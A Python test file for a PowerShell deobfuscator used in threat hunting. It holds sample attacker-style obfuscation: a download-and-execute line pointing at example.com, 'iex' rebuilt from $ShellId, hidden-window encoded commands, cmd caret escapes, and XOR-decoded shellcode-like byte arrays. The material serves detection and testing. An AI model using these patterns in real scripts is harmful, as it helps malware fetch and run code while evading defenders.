"""What the readable script looks like."""

import time

import pytest

from app.hunting.deobfuscate import Deobfuscated, deobfuscate, fold_concatenation


@pytest.mark.parametrize(
    ("script", "text"),
    [
        ("$a='x'+'y';foo $a", "$a='xy';foo $a"),
        ("foo ('{1}{0}' -f 'b','a')", "foo 'ab'"),
        ("foo('a'.Replace('a','b'))", "foo 'b'"),
        ("foo ('it''s'-replace'i','b')", "foo 'bt''s'"),
        (
            "(New-Object Net.WebClient).('Down'+'loadFile')('x')",
            "(New-Object Net.WebClient).DownloadFile('x')",
        ),
        ('$c."d`ownloadF`ile"($u)', "$c.downloadFile($u)"),
        ("N`ew-Ob`ject Net.WebClient", "New-Object Net.WebClient"),
        ('foo "e`xam`ple"', "foo 'example'"),
        ("& ('ne'+'w-object') X", "new-object X"),
        (".($ShellId[1]+$ShellId[13]+'x') $code", "iex $code"),
        ("$h='example.com';foo \"http://$h/$x\"", "$h='example.com';foo \"http://example.com/$x\""),
        ("$h='a'.Trim();foo \"$h $x\"", "$h='a';foo \"a $x\""),
        ("$u='a'.Trim();foo $u", "$u='a';foo 'a'"),
        ("foo ('a'+'b'+$x+'c'+'d'.Trim())", "foo ('ab'+$x+'c'+'d')"),
        ("foo ('a,b'.Split(','))", "foo @('a','b')"),
        ("foo ((65,66|%{[char]$_})-join'')", "foo 'AB'"),
        ("foo ((0..3|%{5})-join'')", "foo '5555'"),
        ("function %{'b'};foo ((0..1|%{5})-join'')", "function %{'b'};foo 'b'"),
        ("foo (-join [char[]](72,105))", "foo 'Hi'"),
        ("if($x){foo ('a'.Trim())}else{$y='b'.Trim()}", "if($x){foo 'a'}else{$y='b'}"),
        ("function f($a){foo ('x'.Trim()) $a}", "function f($a){foo 'x' $a}"),
        ("foreach($i in 1,2){foo ('n{0}' -f $i)}", "foreach($i in 1,2){foo ('n{0}' -f $i)}"),
        ("foo ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aGk=')))", "foo 'hi'"),
        ("foo (3*14-bxor 0xff)", "foo 213"),
    ],
)
def test_constants_are_written_where_they_are_used(script: str, text: str) -> None:
    assert deobfuscate(script).text == text


@pytest.mark.parametrize(
    "script",
    [
        "(New-Object Net.WebClient).DownloadFile('http://example.com/a','b');Start-Process b",
        "$x=Get-Date;foo ('{0}' -f $x)",
        "foo ($a + $b)",
        "foo ($env:TEMP+'\\a.exe')",
        "foo $env:ComSpec ('/c ' + $x)",
        'while($true){$i++;foo ("{0}" -f $i)}',
        "echo ' '; Write-Output 'x'",
        "$s=New-Object IO.MemoryStream;Write-To $s;foo ($s.ToArray() -join '')",
        "foo ('x' -replace '(?<=a)b','c')",
        "]) } ' \" (( 'a' + ",
        "",
    ],
)
def test_what_cannot_be_told_stays_as_it_is(script: str) -> None:
    assert deobfuscate(script) == Deobfuscated(script)
    assert deobfuscate(script).text is script


def test_scripts_that_would_run_are_listed_from_the_outside_in() -> None:
    script = "$x='write-h'+'ost 1';iex ('iex ''powershell -c foo'''.Trim())"
    found = deobfuscate(script)
    assert found.text == "$x='write-host 1';iex 'iex ''powershell -c foo'''"
    assert found.scripts == ("iex 'powershell -c foo'", "powershell -c foo", "foo")
    assert found.steps == ("concatenation", "invoke", "nested shell")


def test_inner_script_shares_the_variables() -> None:
    script = "$p='//example.com/a'.Trim();iex ('$u=''http:''+$p'.Trim());foo $u"
    assert deobfuscate(script).text.endswith("foo 'http://example.com/a'")


@pytest.mark.parametrize(
    ("script", "inner"),
    [
        ("powershell -nop -w hidden -e ZgBvAG8A -x ('a'+'b')", "foo"),
        ("cmd /c p^o^w^ershell /ec ZgBvAG8A", "foo"),
        ("'foo 1'.Trim() | powershell.exe -nop -", "foo 1"),
        ('cmd /c "echo foo 1 | p^owershell -noni -"', "foo 1"),
        ('cmd /c "set a=power&&set b=shell foo 1&&call %a%%b%"', "foo 1"),
        ('cmd /v:on /c "set a=foo 1&&%COMSPEC:~3,1%^ || powershell !a!"', "foo 1"),
        ('cmd /c "set x=foo 1&&powershell -c iex $env:x"', "foo 1"),
        ("Start-Process powershell.exe ('-c foo '+'1'.Trim())", "foo 1"),
        ("[Diagnostics.Process]::Start('cmd', '/c powershell foo '.Trim())", "foo"),
        ("$s.Arguments = '-c foo '+'1'.Trim()", "foo 1"),
        ('schtasks /TR "powershell -c \\"iex (\'foo 1\'.Trim())\\""', "foo 1"),
        ("[scriptblock]::Create('foo '+'1'.Trim())", "foo 1"),
        ("$ExecutionContext.InvokeCommand.InvokeScript('foo'.Trim())", "foo"),
        ("[powershell]::Create().AddScript('foo'.Trim()).Invoke()", "foo"),
        (
            ".((Get-Variable q*).Name+$x) ('foo (1);bar (2);baz (3)'.Trim())",
            "foo (1);bar (2);baz (3)",
        ),
    ],
)
def test_nested_shells_and_blocks_are_found(script: str, inner: str) -> None:
    assert inner in deobfuscate(script).scripts


def test_byte_arrays_that_are_built_are_reported() -> None:
    script = (
        "$b=[Convert]::FromBase64String('"
        + "kJCQ" * 32
        + "');for($i=0;$i -lt $b.Length;$i++){$b[$i]=$b[$i] -bxor 1};[X]::Run($b)"
    )
    assert deobfuscate(script).blobs == (b"\x91" * 96,)


def test_byte_arrays_that_stand_in_the_script_are_left_to_others() -> None:
    script = f"[byte[]]$b={','.join(['0x90'] * 96)};[X]::Run($b,'a'.Trim())"
    assert deobfuscate(script).blobs == ()


def test_result_is_partial_when_the_deadline_has_passed() -> None:
    script = "1..500|%{$s+='a'.Trim()};foo ('b'.Trim())"
    assert deobfuscate(script, deadline=time.monotonic() - 1).partial


def test_text_is_always_valid_unicode() -> None:
    found = deobfuscate("foo ([char]0xD83D+[char]0xDE00) ([char]0xD83D+'x')")
    assert found.text == "foo '\U0001f600' '\ufffdx'"


@pytest.mark.parametrize(
    ("script", "folded"),
    [
        (
            "$ser='https://192.0.2.4:443';$t='/a.php';$w.D($ser+$t)",
            "$ser='https://192.0.2.4:443';$t='/a.php';$w.D('https://192.0.2.4:443/a.php')",
        ),
        ("foo 'a' + \"b\" + 'it''s'", "foo 'abit''s'"),
        ("foo (('a'+'b')+('c'+'d'))", "foo 'abcd'"),
        ("$h='example.com';foo \"http://$h/a\"", "$h='example.com';foo \"http://example.com/a\""),
        ("$a='x';foo ('p'+$a+$b)", "$a='x';foo ('px'+$b)"),
    ],
)
def test_simple_sums_are_folded(script: str, folded: str) -> None:
    assert fold_concatenation(script) == folded


@pytest.mark.parametrize(
    "script",
    [
        "$a='x';$a='y';foo ($b+$a)",
        "$a='x';$a+='y';foo ($a+$a)",
        "foreach($a in $b){foo ($a+$a)}",
        "foo $x+'a'+$y.Z('b')",
        "foo 'a'+'b'.Length",
        "plain 'text'",
    ],
)
def test_uncertain_sums_are_not_folded(script: str) -> None:
    assert fold_concatenation(script) is script
